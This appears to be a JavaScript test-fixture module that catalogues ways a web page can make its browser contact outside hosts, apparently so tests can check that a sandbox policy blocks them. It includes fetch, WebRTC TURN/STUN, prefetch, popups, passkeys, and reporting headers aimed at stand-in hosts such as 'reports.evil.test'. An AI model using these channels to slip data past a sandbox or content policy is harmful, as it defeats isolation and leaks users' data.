// Ways by which a page may make its browser send something: each gets the name of a host of its own.
import { waysOut } from '../e2e/policy_hostile.mjs';

const element = (tag, properties) =>
  `document.head.append(Object.assign(document.createElement('${tag}'), ${JSON.stringify(properties)}))`;
const speculate = rules => element('script', { type: 'speculationrules', textContent: JSON.stringify(rules) });
const peer = server => `new Promise(async done => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: '${server}', username: 'u', credential: 'p' }] });
  peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && done();
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
})`;
// Two peers of one page; the candidate that one is told of has a name.
const candidate = (name, tell) => `(async () => {
  const [one, other] = [new RTCPeerConnection(), new RTCPeerConnection()];
  one.createDataChannel('x');
  await one.setLocalDescription(await one.createOffer());
  await other.setRemoteDescription(one.localDescription);
  await other.setLocalDescription(await other.createAnswer());
  const candidate = 'candidate:1 1 udp 2113937151 ${name} 9 typ host';
  ${tell}
})()`;
const trickled = 'await one.setRemoteDescription(other.localDescription); await one.addIceCandidate({ candidate, sdpMid: "0" });';
const described = 'await one.setRemoteDescription({ type: "answer", sdp: other.localDescription.sdp + "a=" + candidate + "\\r\\n" });';

// Of other tests, those that name their target by URL alone.
const { webRtc, redirect, serviceWorker, ...requests } = waysOut;
const byUrl = Object.fromEntries(Object.entries(requests).map(([way, attempt]) => [way, host => attempt(`http://${host}`)]));

// The audit log names the host of each, as of those below.
export const audited = {
  ...byUrl,
  secureFetch: host => `fetch('https://${host}/', { mode: 'no-cors' }).catch(() => {})`,
  secureWebSocket: host => `new Promise(done => { new WebSocket('wss://${host}/').onerror = done; })`,
};

// Peers are sought for a while only: beside much else, a browser may give up before it has asked its proxy.
export const peers = {
  turnTcp: host => peer(`turn:${host}:3478?transport=tcp`),
  turnTls: host => peer(`turns:${host}:5349?transport=tcp`),
  turnUdp: host => peer(`turn:${host}:3478?transport=udp`),
  stun: host => peer(`stun:${host}:3478`),
  candidate: host => candidate(host, trickled),
  candidateInDescription: host => candidate(host, described),
};

// Each takes its page along.
export const leaving = {
  popup: host => `void window.open('http://${host}/')`,
  popupWithoutOpener: host => `void window.open('https://${host}/', '_blank', 'noopener')`,
  download: host => `Object.assign(document.createElement('a'), { href: 'http://${host}/', download: 'x' }).click()`,
  navigation: host => `void (location.href = 'http://${host}/')`,
};

// The browser asks for these by itself, if at all, and says nothing when it may not.
export const silent = {
  icon: host => element('link', { rel: 'icon', href: `http://${host}/icon.png` }),
  candidateOfLocalNetwork: host => candidate(host.replace(/\.test$/, '.local'), trickled),
  stunOfAddress: () => peer('stun:192.0.2.7:3478'),
  turnOfAddress: () => peer('turn:192.0.2.7:3478?transport=tcp'),
  dnsPrefetch: host => element('link', { rel: 'dns-prefetch', href: `//${host}` }),
  preconnect: host => element('link', { rel: 'preconnect', href: `https://${host}` }),
  speculativePrefetch: host => speculate({ prefetch: [{ source: 'list', urls: [`https://${host}/`], eagerness: 'immediate' }] }),
  prerender: host => speculate({ prerender: [{ source: 'list', urls: [`https://${host}/`], eagerness: 'immediate' }] }),
  webTransport: host => `new WebTransport('https://${host}:4433/').ready.catch(() => {})`,
  fetchLater: host => `globalThis.fetchLater?.('https://${host}/', { activateAfter: 0 })`,
  paymentMethod: host => `new PaymentRequest([{ supportedMethods: 'https://${host}/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment().catch(() => {})`,
  passkey: host => `navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: '${host}', timeout: 1000 } }).catch(() => {})`,
  // It is refused after a while that the browser makes up, so nobody waits for that.
  identityProvider: host => `void navigator.credentials.get({ identity: { providers: [{ configURL: 'https://${host}/fedcm.json', clientId: 'x' }] } }).catch(() => {})`,
};

// What an answer's headers ask for, with the hosts' names.
export const headers = {
  'Link': '<https://link-preconnect.evil.test>; rel=preconnect, <https://link-dns.evil.test>; rel=dns-prefetch, <https://link-preload.evil.test/x.js>; rel=preload; as=script',
  'X-DNS-Prefetch-Control': 'on',
  'Reporting-Endpoints': 'elsewhere="https://reports.evil.test/"',
  'Report-To': '{"group":"network","max_age":60,"endpoints":[{"url":"https://network-errors.evil.test/"}]}',
  'NEL': '{"report_to":"network","max_age":60,"success_fraction":1}',
  'Content-Security-Policy-Report-Only': "script-src 'none'; report-uri https://violations.evil.test/; report-to elsewhere",
  'Accept-CH': 'Sec-CH-UA-Model',
};
